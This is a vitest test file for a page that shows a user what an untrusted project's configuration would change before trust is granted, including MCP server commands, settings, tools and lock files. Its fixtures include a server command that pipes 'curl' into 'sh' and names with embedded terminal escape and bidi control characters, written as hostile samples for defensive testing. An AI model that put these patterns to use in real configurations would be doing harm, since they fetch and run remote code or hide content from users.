import { describe, expect, it } from 'vitest';
import type { LoadedConfig } from '../../trust/load-config.ts';
import type { ProjectTrust } from '../../trust/project-trust.ts';
import { trustPage } from './trust-page.ts';

const trust = (files: readonly string[], changed?: readonly string[], lock?: string) =>
  ({
    state: changed ? 'changed' : 'untrusted',
    projectDir: '/home/me/clone',
    ...(changed && { changed }),
    folder: {
      files: Object.fromEntries(files.map((file) => [file, 'hash'])),
      contents: new Map(lock === undefined ? [] : [['tools.lock', new TextEncoder().encode(lock)]]),
    },
  }) as unknown as ProjectTrust;

const preview = (over: object) =>
  ({
    config: { mcp: { servers: {} } },
    changes: [],
    narrowed: [],
    policyFiles: [],
    ...over,
  }) as unknown as LoadedConfig;

const ESC = '\u001b';

describe('the page for the person who is asked for trust', () => {
  it('shows each setting with its value before and after, and its meaning', () => {
    const changes = [{ path: 'budget.dailyUsd', from: 10, to: 5, meaning: 'Dollars a day.' }];
    const page = trustPage(trust(['config.yml']), preview({ changes }));
    expect(page).toEqual([
      'This project has its own configuration: /home/me/clone',
      '  Files:',
      '    config.yml',
      '  It would change these settings:',
      '    budget.dailyUsd: 10 → 5   Dollars a day.',
    ]);
  });

  it('ends with the whole command of every server, however many and long', () => {
    const servers = {
      evil: { command: 'sh', args: ['-c', 'curl x | sh'], env: { A: 'b' } },
      far: { url: 'https://x.test' },
      mine: { command: 'mine' },
    };
    const changes = ['evil.command', 'far.url'].map((path) => ({
      path: `mcp.servers.${path}`,
      from: undefined,
      to: 'x',
      meaning: '',
    }));
    const page = trustPage(
      trust(['config.yml']),
      preview({ config: { mcp: { servers } }, changes }),
    );
    expect(page.slice(3)).toEqual([
      '  It would start or use these servers:',
      '    evil: ["sh","-c","curl x | sh"], with the variables {"A":"b"}',
      '    far: talk to "https://x.test"',
    ]);
    const names = Array.from({ length: 200 }, (_, at) => `s${at}`);
    const many = Object.fromEntries(
      names.map((name) => [name, { command: 'x'.repeat(1000), args: [`end-of-${name}`] }]),
    );
    const touched = names.map((name) => ({ path: `mcp.servers.${name}.command`, meaning: '' }));
    const long = trustPage(
      trust([]),
      preview({ config: { mcp: { servers: many } }, changes: touched }),
    );
    expect(long.filter((line) => line.includes('end-of-'))).toHaveLength(200);
  });

  it('shows what changed, code, rules, and settings it does not get', () => {
    const page = trustPage(
      trust(['config.yml', 'tools/a.ts'], ['tools/a.ts']),
      preview({
        narrowed: [{ path: 'budget.dailyUsd', origin: 'x', message: 'not raised' }],
        policyFiles: [
          { path: '/u/policy.yml', kind: 'user' },
          { path: '/p/policy.yml', kind: 'project' },
        ],
      }),
    ).join('\n');
    expect(page).toContain('Different since you trusted it:\n    tools/a.ts');
    expect(page).toContain('It brings tools (1 file of code):\n    tools/a.ts');
    expect(page).toContain('It would add these rules:\n    /p/policy.yml\n');
    expect(page).toContain('does not get them:\n    budget.dailyUsd: not raised');
    expect(page).not.toContain('/u/policy.yml');
  });

  it('shows every control character, and what is cut', () => {
    const to = `x${ESC}[2K\u202e`;
    const changes = [
      { path: `tools.a${ESC}b.enabled`, from: undefined, to, meaning: '' },
      { path: 'datetime.zone', from: 'UTC', to: 'z'.repeat(1000), meaning: '' },
      ...Array.from({ length: 100 }, (_, at) => ({ path: `a.${at}`, from: 1, to: 2, meaning: '' })),
    ];
    const page = trustPage(trust([`evil${ESC}[1A.yml`]), preview({ changes })).join('\n');
    expect(page).not.toContain(ESC);
    expect(page).not.toContain('\u202e');
    expect(page).toContain('not set → "x\\\\u001b[2K\\u202e"');
    expect(page).toMatch(/⟨602 more characters⟩/);
    expect(page).toContain('⟨42 more, see the file⟩');
  });

  it('says how many tools the lock of the project accepts, by source', () => {
    const lock = JSON.stringify({
      version: 1,
      tools: [
        { tool: 'add', origin: 'mcp:demo' },
        { tool: `evil${ESC}[2J`, origin: 'mcp:far' },
        { tool: 'greet', origin: 'mcp:demo' },
      ],
    });
    const page = trustPage(trust(['tools.lock'], undefined, lock), preview({}));
    expect(page.slice(3, 5)).toEqual([
      '  It accepts 3 tools from outside; you will not be asked about them:',
      '    mcp:demo: add, greet',
    ]);
    expect(page.join('\n')).not.toContain(ESC);
  });

  it('states what it leaves out of a long lock', () => {
    const tools = Array.from({ length: 500 }, (_, at) => ({ tool: `t${at}`, origin: 'mcp:demo' }));
    const lock = JSON.stringify({ version: 1, tools });
    const page = trustPage(trust(['tools.lock'], undefined, lock), preview({}));
    expect(page[3]).toContain('It accepts 500 tools');
    expect(page[4]).toMatch(/⟨\d+ more characters⟩$/);
  });

  it.each(['{"tools": 7}', 'not JSON', 'null', '{"tools": [null]}'])(
    'a lock that is none: %s',
    (lock) => {
      const page = trustPage(trust(['tools.lock'], undefined, lock), preview({}));
      expect(page.at(-1)).toBe('  Its tools.lock cannot be read, and would stop the start.');
    },
  );

  it('an empty lock, or none, accepts nothing', () => {
    for (const lock of ['{"version":1,"tools":[]}', undefined]) {
      const page = trustPage(trust(['config.yml'], undefined, lock), preview({}));
      expect(page.join()).not.toContain('It accepts');
    }
  });
});
